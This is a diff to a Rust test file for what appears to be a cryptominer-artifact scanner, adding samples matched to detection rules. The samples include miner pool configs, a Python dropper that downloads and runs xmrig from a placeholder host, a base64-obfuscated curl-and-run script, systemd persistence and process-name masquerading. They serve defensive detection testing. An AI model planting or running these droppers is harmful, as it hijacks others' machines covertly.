@@ -136,8 +136,33 @@ fn a_plain_image_config_is_clean() {
 }
 
 #[test]
-fn persistence_escaped_droppers_and_hiding_places() {
+fn artifacts_each_match_their_rule() {
     let cases: Vec<(&str, String, &str)> = vec![
+        (
+            "/opt/xmr-stak/pools.txt",
+            "\"pool_list\" :\n[\n  {\"pool_address\" : \"pool.supportxmr.com:5555\", \"wallet_address\" : \"x\", \"rig_id\" : \"\", \"pool_password\" : \"x\", \"use_nicehash\" : false, \"use_tls\" : false, \"tls_fingerprint\" : \"\", \"pool_weight\" : 1 },\n],\n\"currency\" : \"monero\",\n".into(),
+            "MH-MINER-CONFIG",
+        ),
+        (
+            "/opt/xmr-stak/config.txt",
+            "\"call_timeout\" : 10,\n\"retry_time\" : 30,\n\"giveup_limit\" : 0,\n\"verbose_level\" : 3,\n\"print_motd\" : true,\n\"h_print_time\" : 60,\n\"aes_override\" : null,\n\"use_slow_memory\" : \"warn\",\n\"tls_secure_algo\" : true,\n\"daemon_mode\" : false,\n\"flush_stdout\" : false,\n".into(),
+            "MH-MINER-CONFIG",
+        ),
+        (
+            "/etc/cpuminer.json",
+            "{\"url\": \"stratum+tcp://pool.example.invalid:3333\", \"user\": \"worker\", \"pass\": \"x\", \"algo\": \"cryptonight\"}\n".into(),
+            "MH-MINER-CONFIG",
+        ),
+        (
+            "/app/get.py",
+            "import os, urllib.request\nurllib.request.urlretrieve('https://x.example.invalid/xmrig', '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nos.system('/tmp/x --donate-level 1 -o pool.hashvault.pro:80')\n".into(),
+            "MH-DROPPER-SCRIPT",
+        ),
+        (
+            "/usr/local/bin/b64.sh",
+            "#!/bin/sh\necho B64 | base64 -d | sh\n".replace("B64", "Y2QgL3RtcCAmJiBjdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNy94IC1vIHggJiYgLi94IC1vIHN0cmF0dW0rdGNwOi8vcG9vbC5taW5leG1yLmNvbTo0NDQ0IC11IHc="),
+            "MH-DROPPER-SCRIPT",
+        ),
         (
             "/etc/systemd/system/sysupdate.service",
             "[Unit]\nDescription=update\n[Service]\nExecStart=/usr/local/bin/kswapd0 -o pool.hashvault.pro:443 -k --tls\nRestart=always\n[Install]\nWantedBy=multi-user.target\n".into(),
@@ -161,6 +186,11 @@ fn persistence_escaped_droppers_and_hiding_places() {
         (
             "/usr/local/bin/hide.sh",
             "#!/bin/sh\ncp app /tmp/.X11-unix/kswapd0\nchmod +x /tmp/.X11-unix/kswapd0\nnohup /tmp/.X11-unix/kswapd0 &\n".into(),
+            "MH-HIDING-PLACE",
+        ),
+        (
+            "/usr/local/bin/run.sh",
+            "#!/bin/bash\nexec -a '[kworker/0:2]' /opt/app/app\n".into(),
             "MH-HIDING-PLACE",
         ),
     ];
